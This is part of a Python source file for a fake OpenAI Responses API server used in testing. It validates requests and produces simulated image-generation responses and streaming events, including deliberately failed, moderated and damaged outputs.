    def _load_image(self, ref: dict[str, Any], param: str) -> Image.Image | None:
        """Decode an image given as ``image_url`` or ``file_id``; None for remote URLs (never fetched)."""
        file_id = ref.get("file_id")
        if isinstance(file_id, str) and file_id:
            with self._lock:
                data = self.files.get(file_id)
            if data is None:
                raise _invalid(f"File '{file_id}' not found.", param)
            return _decode_image(data, param)
        url = ref.get("image_url")
        if isinstance(url, dict):
            url = url.get("url")
        if not isinstance(url, str) or not url:
            raise _invalid("An input image needs an 'image_url' or a 'file_id'.", param, "missing_required_parameter")
        if url.startswith(("http://", "https://")):
            return None
        match = _DATA_URL_RE.match(url) if url.startswith("data:") else None
        if match is None or not match.group(2):
            raise _invalid("Invalid image URL: expected a base64 data URL or an http(s) URL.", param, "invalid_image")
        try:
            data = base64.b64decode("".join(match.group(3).split()), validate=True)
        except (binascii.Error, ValueError):
            raise _invalid("Invalid base64 in image data URL.", param, "invalid_image") from None
        return _decode_image(data, param)

    def _read_input(self, value: Any) -> tuple[str, list[Image.Image]]:
        """Return the prompt text (last user message) and every decodable input image.

        Message items and their content parts are checked field by field (``MESSAGE_FIELDS``,
        ``CONTENT_PART_FIELDS``); other item types (function call outputs, item references, ...) are passed over.
        """
        if value is None:
            return "", []
        if isinstance(value, str):
            return value, []
        if not isinstance(value, list):
            raise _invalid("Invalid type for 'input': expected a string or an array.", "input", "invalid_type")
        prompt = ""
        images: list[Image.Image] = []
        for index, item in enumerate(value):
            where = f"input[{index}]"
            if not isinstance(item, dict):
                raise _invalid("Invalid type for 'input' item: expected an object.", "input", "invalid_type")
            if item.get("type", "message") != "message":
                continue
            check_fields(item, MESSAGE_FIELDS, where)
            content = item.get("content")
            texts: list[str] = []
            if isinstance(content, str):
                texts.append(content)
            elif isinstance(content, list):
                for number, part in enumerate(content):
                    if not isinstance(part, dict):
                        raise _invalid("Invalid content part: expected an object.", "input", "invalid_type")
                    part_where = f"{where}.content[{number}]"
                    kind = part.get("type")
                    if kind not in CONTENT_PART_FIELDS:
                        supported = _listed(tuple(CONTENT_PART_FIELDS))
                        raise _invalid(f"Invalid value: '{kind}'. Supported values are: {supported}.", f"{part_where}.type")
                    check_fields(part, CONTENT_PART_FIELDS[kind], part_where)
                    if kind == "input_text":
                        texts.append(part.get("text", ""))
                    elif kind == "input_image":
                        image = self._load_image(part, "input")
                        if image is not None:
                            images.append(image)
            else:
                raise _invalid("Invalid type for 'content': expected a string or an array.", f"{where}.content", "invalid_type")
            if item.get("role") == "user":
                prompt = "\n".join(texts)
        return prompt, images

    def _read_tools(self, tools: list[Any], tool_choice: Any, outer_model: str) -> tuple[list[Any], _ImageSpec | None]:
        """Check every tool; return the tools echoed (the image tool's defaults filled in) and the image tool's spec."""
        for position, tool in enumerate(tools):
            param = f"tools[{position}]"
            if not isinstance(tool, dict):
                raise _invalid(f"Invalid type for '{param}': expected an object.", param, "invalid_type")
            if tool.get("type") not in TOOL_TYPES:
                raise _invalid(f"Invalid value: '{tool.get('type')}'. Supported values are: {_listed(TOOL_TYPES)}.", f"{param}.type")
            if tool["type"] == "image_generation":
                check_fields(tool, IMAGE_TOOL_FIELDS, param)
        index = next((i for i, t in enumerate(tools) if t.get("type") == "image_generation"), None)
        if index is None:
            forced = tool_choice == "required" or (
                isinstance(tool_choice, dict)
                and (
                    tool_choice.get("type") == "image_generation"
                    or (
                        tool_choice.get("type") == "allowed_tools"
                        and tool_choice.get("mode") == "required"
                        and any(isinstance(t, dict) and t.get("type") == "image_generation" for t in tool_choice.get("tools", []))
                    )
                )
            )
            if forced:
                raise _invalid("Tool choice 'image_generation' not found in 'tools' parameter.", "tool_choice")
            return tools, None
        if tool_choice == "none":
            return tools, None
        tool = tools[index]
        param = f"tools[{index}]"
        model = tool.get("model", DEFAULT_IMAGE_MODEL)
        if not model:
            raise _invalid("Invalid value for 'model': expected a non-empty string.", f"{param}.model")
        mask = tool.get("input_image_mask")
        # SVG: "When SVG model selection is enabled, omitting this object uses the outer response model."
        spec = image_spec(tool, where=param, model=model, mask_param=f"{param}.input_image_mask" if mask else None, svg_author=outer_model)
        if isinstance(mask, dict):
            self._load_image(mask, f"{param}.input_image_mask")

        echoed = dict(tool)
        for key, default in (
            ("model", model),
            ("size", "auto"),
            ("quality", "auto"),
            ("background", "auto"),
            ("output_format", "png"),
            ("output_compression", 100),
            ("partial_images", 0),
            ("action", "auto"),
            ("moderation", "auto"),
        ):
            echoed.setdefault(key, default)
        echoed_tools = list(tools)
        echoed_tools[index] = echoed
        return echoed_tools, spec

    def _refuse_background(self, body: dict[str, Any]) -> None:
        """While ``refuse_background`` is on: OpenAI's 400 for an unknown parameter, for either background field."""
        with self._lock:
            refusing = self._refusing_background
        if refusing:
            for name in ("background", "background_options"):
                if name in body:
                    raise _invalid(f"Unknown parameter: '{name}'.", name, "unknown_parameter")

    def _background_settings(self, body: dict[str, Any]) -> tuple[bool, str]:
        """``background`` and ``background_options.completion_window``, checked against each other and the body."""
        background = body.get("background")
        window = (body.get("background_options") or {}).get("completion_window", "soonest")
        param = "background_options.completion_window"
        if background is True and body.get("store") is False:
            raise _invalid("Background mode requires 'store' to be true: set store to true or leave it out.", "background")
        if window != "soonest":
            # The SDK: "The `2h` and `8h` completion windows require `background: true`, Standard
            # processing, and `stream: false` or omitted." (BackgroundOptions in response_create_params.py)
            if background is not True:
                raise _invalid(f"The '{window}' completion window requires 'background' to be true.", param)
            if body.get("stream") is True:
                raise _invalid(
                    f"The '{window}' completion window cannot be streamed: leave out 'stream' and retrieve the response.",
                    param,
                )
            if body.get("service_tier") in ("flex", "priority"):
                raise _invalid(
                    f"The '{window}' completion window requires Standard processing, not service_tier '{body['service_tier']}'.",
                    param,
                )
        return background is True, window

    def _plan(self, body: dict[str, Any]) -> _Plan:
        # Every field must be one the SDK's ResponseCreateParams has, holding what its type allows.
        check_fields(body, RESPONSE_CREATE_FIELDS)
        check_metadata(body.get("metadata"))
        if body.get("stream_options") is not None and body.get("stream") is not True:
            # stream_options: "Only set this when you set `stream: true`."
            raise _invalid("stream_options can only be set when stream is true.", "stream_options")
        if body.get("conversation") is not None and body.get("previous_response_id") is not None:
            # previous_response_id: "Cannot be used in conjunction with `conversation`."
            raise _invalid("previous_response_id cannot be used together with conversation.", "previous_response_id")
        background, window = self._background_settings(body)
        model = body.get("model")
        if not isinstance(model, str) or not model:
            raise _invalid("Missing required parameter: 'model'.", "model", "missing_required_parameter")
        previous: dict[str, Any] | None = None
        previous_id = body.get("previous_response_id")
        if previous_id is not None:
            with self._lock:
                previous = self.responses.get(previous_id)
            if previous is None:
                raise ApiError(
                    404 if self.expired_status == 404 else 400,
                    f"Previous response with id '{previous_id}' not found.",
                    code="previous_response_not_found",
                    param="previous_response_id",
                )
            if previous.get("status") in ("queued", "in_progress"):
                # A background response still running has no output to continue from yet.
                raise ApiError(
                    400,
                    f"Previous response with id '{previous_id}' is still {previous['status']}; "
                    "wait for it to complete before continuing from it.",
                    code="previous_response_not_completed",
                    param="previous_response_id",
                )
        prompt, images = self._read_input(body.get("input"))
        echoed_tools, spec = self._read_tools(body.get("tools") or [], body.get("tool_choice", "auto"), model)
        if spec is not None and spec.output_format == "svg" and body.get("stream") is True:
            # "SVG output requires n=1 and cannot use streaming" (types/image_edit_params.py), on the Responses tool too.
            raise _invalid("SVG output cannot be streamed: leave out 'stream' and retrieve the response.", "stream")
        return _Plan(
            body=body,
            model=model,
            prompt=prompt,
            input_images=images,
            tools=echoed_tools,
            spec=spec,
            stream=body.get("stream") is True,
            store=body.get("store", True) is not False,
            previous=previous,
            background=background,
            completion_window=window,
        )

    # ---- response building

    def _response_head(self, plan: _Plan) -> dict[str, Any]:
        """A new response with nothing done yet, except that its status says "completed"."""
        now = int(time.time())
        return {
            "id": _new_id("resp_"),
            "object": "response",
            "created_at": now,
            "completed_at": now,
            "status": "completed",
            "background": plan.background,
            "model": plan.model,
            "output": [],
            "error": None,
            "incomplete_details": None,
            "instructions": plan.body.get("instructions"),
            "metadata": plan.body.get("metadata") or {},
            "parallel_tool_calls": plan.body.get("parallel_tool_calls", True),
            "previous_response_id": plan.body.get("previous_response_id"),
            "store": plan.store,
            "tool_choice": plan.body.get("tool_choice", "auto"),
            "tools": plan.tools,
            "usage": None,
            "tool_usage": None,
        }

    def _render(self, spec: _ImageSpec, prompt: str, inset: Image.Image | None) -> bytes:
        """Encode one final image for ``spec`` (counting it in ``generations``): SVG text, an animated GIF, or a picture."""
        with self._lock:
            self.generations += 1
            hostile = self._hostile_svg
        if spec.output_format == "svg":
            return render_svg(prompt, spec.width, spec.height, hostile=hostile)
        if spec.output_format == "gif":
            return render_gif(prompt, spec.width, spec.height, frames=spec.frame_count, frame_ms=spec.frame_ms)
        if self.photo_like:
            return render_photo(spec.width, spec.height, spec.output_format, transparent=spec.transparent, compression=spec.compression)
        return render_image(
            prompt,
            spec.width,
            spec.height,
            spec.output_format,
            transparent=spec.transparent,
            compression=spec.compression,
            inset=inset,
        )

    def _build_response(self, plan: _Plan, outcome: _Outcome | None) -> dict[str, Any]:
        """Build the final Response JSON (rendering its image, which counts as one of ``generations``)."""
        kind = outcome.kind if outcome else None
        kw = outcome.kw if outcome else {}
        spec = plan.spec
        response = self._response_head(plan)
        text_tokens = 10 + len(plan.prompt) // 4
        input_tokens = 20 + text_tokens + 85 * len(plan.input_images)
        if plan.previous is not None and plan.previous.get("usage"):
            input_tokens += plan.previous["usage"]["total_tokens"]
        image_in = (0, 0)  # (text tokens, image tokens) seen by the image model
        image_out = 0

        if kind == "failed_response":
            response["status"] = "failed"
            response["completed_at"] = None
            response["error"] = {
                "code": kw.get("code", "server_error"),
                "message": kw.get("message", "The server had an error while processing your request."),
            }
        elif kind == "incomplete":
            response["status"] = "incomplete"
            response["completed_at"] = None
            response["incomplete_details"] = {"reason": kw.get("reason", "max_output_tokens")}
            response["output"].append({"type": "reasoning", "id": _new_id("rs_"), "summary": []})
        elif kind == "no_image" or spec is None:
            if kind != "no_image":
                response["output"].append({"type": "reasoning", "id": _new_id("rs_"), "summary": []})
            response["output"].append(_message("I can't make that image. Could you describe it differently?"))
        else:
            call: dict[str, Any] = {
                "id": _new_id("ig_"),
                "type": "image_generation_call",
                "status": "completed",
                "result": None,
                "revised_prompt": "Revised: " + plan.prompt,
                "action": spec.action if spec.action != "auto" else ("edit" if plan.input_images else "generate"),
                "background": spec.background,
                "output_format": spec.output_format,
                "quality": spec.quality,
                "size": spec.size,
            }
            image_in = (text_tokens, 1024 * len(plan.input_images))
            if kind == "moderated":
                call.update(
                    status="failed",
                    revised_prompt=None,
                    error={
                        "code": "moderation_blocked",
                        "type": "image_generation_user_error",
                        "param": None,
                        "message": "Your request was rejected by the safety system.",
                        "moderation_details": {
                            "categories": list(kw.get("categories", ["violence"])),
                            "moderation_stage": "input",
                        },
                    },
                )
                text = "I couldn't create that image because the request was blocked by the safety system."
            else:
                image = self._render(spec, plan.prompt, plan.input_images[0] if plan.input_images else None)
                if spec.svg_author is not None:
                    call["svg_usage"] = _svg_usage(spec, plan.prompt)
                if kind == "damaged_image":
                    image = image[: len(image) // 2]
                call["result"] = "!!!not-base64!!!" if kind == "bad_base64" else base64.b64encode(image).decode()
                partials = spec.partial_images if plan.stream else 0
                # Each streamed partial image adds 100 output tokens (OpenAI's image generation guide, via apidog).
                image_out = _spec_tokens(spec) + 100 * partials
                text = "Here is your image."
            response["output"] += [{"type": "reasoning", "id": _new_id("rs_"), "summary": []}, call, _message(text)]

        output_tokens = 30 if response["output"] else 0
        response["usage"] = {
            "input_tokens": input_tokens,
            "input_tokens_details": {"cached_tokens": 0, "cache_write_tokens": 0},
            "output_tokens": output_tokens,
            "output_tokens_details": {"reasoning_tokens": 12 if output_tokens else 0},
            "total_tokens": input_tokens + output_tokens,
        }
        response["tool_usage"] = {
            "image_gen": {
                "input_tokens": sum(image_in),
                "input_tokens_details": {"image_tokens": image_in[1], "text_tokens": image_in[0]},
                "output_tokens": image_out,
                "output_tokens_details": {"image_tokens": image_out, "text_tokens": 0},
                "total_tokens": sum(image_in) + image_out,
            },
            "web_search": {"num_requests": 0},
        }
        return response

    def _events(self, plan: _Plan, response: dict[str, Any]) -> Iterator[dict[str, Any]]:
        """The SSE events (without sequence numbers) that stream ``response``."""
        snapshot = dict(response, status="in_progress", output=[], usage=None, tool_usage=None, completed_at=None, error=None)
        yield {"type": "response.created", "response": snapshot}
        yield {"type": "response.in_progress", "response": snapshot}
        yield from self._body_events(plan, response)

    def _body_events(self, plan: _Plan, response: dict[str, Any]) -> Iterator[dict[str, Any]]:
        """The events after ``response.in_progress``, through the one that ends the response."""
        if response["status"] == "failed":
            yield {"type": "response.failed", "response": response}
            return
        for index, item in enumerate(response["output"]):
            if item["type"] == "image_generation_call":
                yield from self._image_events(plan, index, item)
            elif item["type"] == "message":
                yield from _message_events(index, item)
            else:
                yield {"type": "response.output_item.added", "output_index": index, "item": item}
                yield {"type": "response.output_item.done", "output_index": index, "item": item}
        ending = "response.incomplete" if response["status"] == "incomplete" else "response.completed"
        yield {"type": ending, "response": response}

    def _image_events(self, plan: _Plan, index: int, item: dict[str, Any]) -> Iterator[dict[str, Any]]:
        spec = plan.spec
        assert spec is not None
        ids = {"output_index": index, "item_id": item["id"]}
        started = {"id": item["id"], "type": "image_generation_call", "status": "in_progress", "result": None}
        yield {"type": "response.output_item.added", "output_index": index, "item": started}
        yield {"type": "response.image_generation_call.in_progress", **ids}
        if item["status"] != "failed":
            yield {"type": "response.image_generation_call.generating", **ids}
            for n in range(spec.partial_images):
                partial = _partial_image(plan.prompt, spec, n)
                yield {
                    "type": "response.image_generation_call.partial_image",
                    **ids,
                    "partial_image_index": n,
                    "partial_image_b64": base64.b64encode(partial).decode(),
                    "size": spec.size,
                    "quality": spec.quality,
                    "background": spec.background,
                    "output_format": spec.output_format,
                }
            yield {"type": "response.image_generation_call.completed", **ids}
        yield {"type": "response.output_item.done", "output_index": index, "item": item}


def _not_found(response_id: str) -> ApiError:
    return ApiError(404, f"Response with id '{response_id}' not found.", param="response_id")


def _cut_point(plan: _Plan) -> str:
    """The event after which a ``stream_cut`` outcome closes the stream."""
    if plan.spec is None:
        return "response.in_progress"
    if plan.spec.partial_images > 0:
        return "response.image_generation_call.partial_image"
    return "response.image_generation_call.generating"


def _sse_frame(event: dict[str, Any]) -> bytes:
    return f"event: {event['type']}\ndata: {json.dumps(event, separators=(',', ':'))}\n\n".encode()


def _message(text: str) -> dict[str, Any]:
    return {
        "id": _new_id("msg_"),
        "type": "message",
        "role": "assistant",
        "status": "completed",
        "content": [{"type": "output_text", "text": text, "annotations": [], "logprobs": []}],
    }


def _message_events(index: int, item: dict[str, Any]) -> Iterator[dict[str, Any]]:
    part = item["content"][0]
    ids = {"item_id": item["id"], "output_index": index, "content_index": 0}
    yield {
        "type": "response.output_item.added",
        "output_index": index,
        "item": dict(item, status="in_progress", content=[]),
    }
    yield {"type": "response.content_part.added", **ids, "part": dict(part, text="")}
    yield {"type": "response.output_text.delta", **ids, "delta": part["text"], "logprobs": []}
    yield {"type": "response.output_text.done", **ids, "text": part["text"], "logprobs": []}
    yield {"type": "response.content_part.done", **ids, "part": part}
    yield {"type": "response.output_item.done", "output_index": index, "item": item}


def main() -> None:
    parser = argparse.ArgumentParser(description="Run the fake OpenAI server in the foreground.")
    parser.add_argument("--port", type=int, default=0, help="port on 127.0.0.1 (default: random)")
    parser.add_argument("--latency", type=float, default=0.0, help="seconds before answering POST /v1/responses")
    parser.add_argument("--render-seconds", type=float, default=0.2, help="seconds a background response takes to render its image")
    parser.add_argument("--photo-like", action="store_true", help="final images photo-like (about 1.6 MB PNG at 1024x1024)")
    args = parser.parse_args()
    fake = FakeOpenAI(latency=args.latency, port=args.port, render_seconds=args.render_seconds, photo_like=args.photo_like).start()
    print(fake.base_url, flush=True)
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        pass
    finally:
        fake.stop()


if __name__ == "__main__":
    main()
